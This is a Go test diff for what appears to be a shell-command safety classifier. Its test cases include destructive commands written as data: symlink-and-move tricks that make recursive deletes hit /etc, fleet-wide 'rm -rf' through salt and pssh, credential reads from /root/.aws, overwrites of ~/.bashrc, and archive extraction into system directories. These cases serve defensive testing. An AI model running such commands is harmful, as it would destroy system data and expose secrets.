@@ -1464,3 +1464,51 @@ func TestMoreCredentialRoutes(t *testing.T) {
 		{"ls ~/.kube", read, ""},
 	})
 }
+
+// Files moved or copied as links keep leading where they led; code that
+// renames a place outside the workspace removes it from there; every file
+// a glob or run-parts picks is judged; a command sent to many hosts is
+// read like ssh's; a file copied or rendered over one outside the
+// workspace overwrites it, as does an archive unpacked there.
+func TestMovedLinksGlobsFleetsAndDownloads(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "nuke.sh"), []byte("rm -rf /etc\n"), 0o755)
+	os.Mkdir(filepath.Join(dir, "parts"), 0o755)
+	os.WriteFile(filepath.Join(dir, "parts", "10-nuke"), []byte("#!/bin/sh\nrm -rf /etc\n"), 0o755)
+	checkIn(t, dir, []want{
+		{"ln -s /etc a && mv a build && rm -rf build/", destructive, "fs.rm-recursive"},
+		{"ln -s /etc a && cp -P a dist && rm -rf dist/", destructive, "fs.rm-recursive"},
+		{"ln -s /etc a && rsync -a a out && rm -rf out/", destructive, "fs.rm-recursive"},
+		{"ln -s /etc a && git mv a build && rm -rf build/", destructive, "fs.rm-recursive"},
+		{`python3 -c 'import os; os.rename("/var/lib/postgresql", "/tmp/pg")'`, destructive, "inline.move-outside"},
+		{`node -e 'require("fs").renameSync("/etc/nginx", "/tmp/n")'`, destructive, "inline.move-outside"},
+		{`python3 -c "import glob; [print(open(f).read()) for f in glob.glob('/root/.aws/*')]"`, credential, "creds.read-secret-file"},
+		{"cat /root/.aws/*", credential, "creds.read-secret-file"},
+		{"bash *.sh", destructive, "fs.rm-recursive"},
+		{`for f in *.sh; do bash "$f"; done`, destructive, "fs.rm-recursive"},
+		{"bash nomatch*.sh", unknown, "shell.script-unknown"},
+		{"run-parts parts", destructive, "fs.rm-recursive"},
+		{"salt '*' cmd.run 'rm -rf /data'", destructive, "fs.rm-recursive"},
+		{"clush -a 'rm -rf /data'", destructive, "fs.rm-recursive"},
+		{"pssh -i -h hosts 'rm -rf /data'", destructive, "fs.rm-recursive"},
+		{"knife ssh 'role:db' 'rm -rf /data'", destructive, "fs.rm-recursive"},
+		{"scp evil:x ~/.bashrc", destructive, "fs.overwrite-outside-workspace"},
+		{"docker cp c:/x /etc/hosts", destructive, "fs.overwrite-outside-workspace"},
+		{"kubectl cp pod:/x ~/.bashrc", destructive, "fs.overwrite-outside-workspace"},
+		{"aws s3 cp s3://b/x ~/.bashrc", destructive, "fs.overwrite-outside-workspace"},
+		{"gh release download -O ~/.bashrc --clobber", destructive, "fs.overwrite-outside-workspace"},
+		{"unrar x -o+ x.rar /etc/", destructive, "fs.extract-outside-workspace"},
+		{"cabextract -d /etc x.cab", destructive, "fs.extract-outside-workspace"},
+		{"python3 -m zipfile -e x.zip /", destructive, "fs.extract-outside-workspace"},
+		{"python3 -m tarfile -e x.tar /", destructive, "fs.extract-outside-workspace"},
+		// and the everyday forms stay
+		{`python3 -c 'import os; os.rename("a.txt", "b.txt")'`, write, ""},
+		{"run-parts --test parts", read, ""},
+		{"clush -a uptime", write, ""},
+		{"scp build/app host:/srv/app", write, ""},
+		{"scp host:/x ./x", write, ""},
+		{"aws s3 cp ./x s3://b/x", write, ""},
+		{"python3 -m zipfile -e x.zip out/", write, ""},
+		{"ffmpeg -i in.mp4 out.mp4", write, ""},
+	})
+}
